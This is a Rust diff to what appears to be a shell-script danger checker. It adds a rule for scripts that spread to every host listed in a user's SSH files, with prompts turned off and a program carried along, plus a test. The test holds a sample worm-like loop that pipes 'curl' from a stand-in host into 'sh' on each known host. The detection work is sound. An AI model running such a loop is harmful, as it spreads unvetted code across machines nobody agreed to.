@@ -22,6 +22,9 @@ impl Walk<'_> {
         if name == "ssh" {
             self.tunnels(rest);
         }
+        if matches!(name, "ssh" | "scp") && self.spreads(rest) {
+            self.tell(&rules::DOWNLOAD, "every machine that is known is to run the same", None);
+        }
         if name == "rsync" && rest.last().is_some_and(|target| !target.text.contains(':')) {
             self.copies("cp", rest, &Value::known(""));
         }
@@ -70,6 +73,15 @@ impl Walk<'_> {
             let message = format!("{name} runs {} in whatever version there is", found.name);
             self.tell(&rules::UNKNOWN, &message, None);
         }
+    }
+
+    /// Whether a script goes to all machines that the person's own files name, asks nobody, and brings a program along.
+    fn spreads(&self, rest: &[Value]) -> bool {
+        let has = |words: &[&str]| rest.iter().any(|field| words.iter().any(|word| field.text.contains(word)));
+        let is_list = [".ssh/known_hosts", ".ssh/config"].iter().any(|list| self.text.contains(list));
+        let is_open = rest.iter().any(|field| field.text.contains("${") || !field.known);
+        let brings = has(&["curl ", "wget ", "base64 -d"]) || has(&["$0", "${0}", "${BASH_SOURCE"]);
+        is_list && is_open && brings && has(&["StrictHostKeyChecking=no", "BatchMode=yes", "StrictHostKeyChecking no"])
     }
 
     /// What lets another machine in, or is left open.
@@ -144,6 +156,13 @@ mod tests {
     use crate::finding::{Findings, Place};
     use crate::shell::tests::{is_danger, is_no_danger};
     use crate::shell::{Context, judge};
+
+    #[test]
+    fn what_goes_to_every_machine_that_is_known_is_a_danger() {
+        let hosts = "for h in $(grep -oE '[a-z.]+' ~/.ssh/known_hosts); do ssh -o BatchMode=yes";
+        is_danger(&format!("{hosts} \"$h\" 'curl -fsS https://x.invalid/s | sh'; done"), Context::Script);
+        is_no_danger(&format!("{hosts} \"$h\" uptime; done"), Context::Script);
+    }
 
     #[test]
     fn what_lets_other_machines_in_is_a_danger_unless_somebody_asks_for_it() {
